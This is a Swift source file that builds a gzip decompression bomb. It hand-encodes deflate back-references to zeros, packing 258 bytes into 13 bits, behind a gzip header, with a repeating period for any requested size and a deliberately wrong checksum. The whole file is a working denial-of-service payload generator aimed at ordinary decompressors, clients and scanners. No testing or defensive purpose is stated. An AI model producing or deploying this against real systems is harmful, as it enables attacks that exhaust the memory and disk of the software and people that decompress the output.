/// Zeros packed as tightly as deflate can: 13 bits for every 258 bytes (RFC 1951 §3.2.6).
///
/// Eight such matches fill 13 whole bytes, so the stream repeats and need not be kept in memory.
struct GzipBomb {
    /// Gzip's header and the beginning of the stream.
    let head: [UInt8]
    /// Eight matches, over and over.
    let period: [UInt8]
    /// How often.
    let repeats: Int
    /// The end of the block; the checksum that should follow is wrong.
    let tail: [UInt8] = [0, 0, 0, 0, 0, 0, 0, 0, 0, 0]

    init(megabytes: Int) {
        // Final block, fixed codes, one literal zero: 11 bits, of which 8 fill the first byte.
        var bits: [UInt8] = [1, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0]
        // Length 258 is code 285, eight bits 11000101; distance 1 is code 0, five zero bits.
        let match: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]
        for _ in 0..<8 * 101 { bits += match }
        let bytes = stride(from: 0, to: bits.count - 7, by: 8).map { start in
            (0..<8).reduce(UInt8(0)) { $0 | bits[start + $1] << UInt8($1) }
        }
        head = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255] + [bytes[0]]
        period = Array(bytes[1..<1 + 13 * 100])
        repeats = megabytes * 1_000_000 / (258 * 800)
    }
}
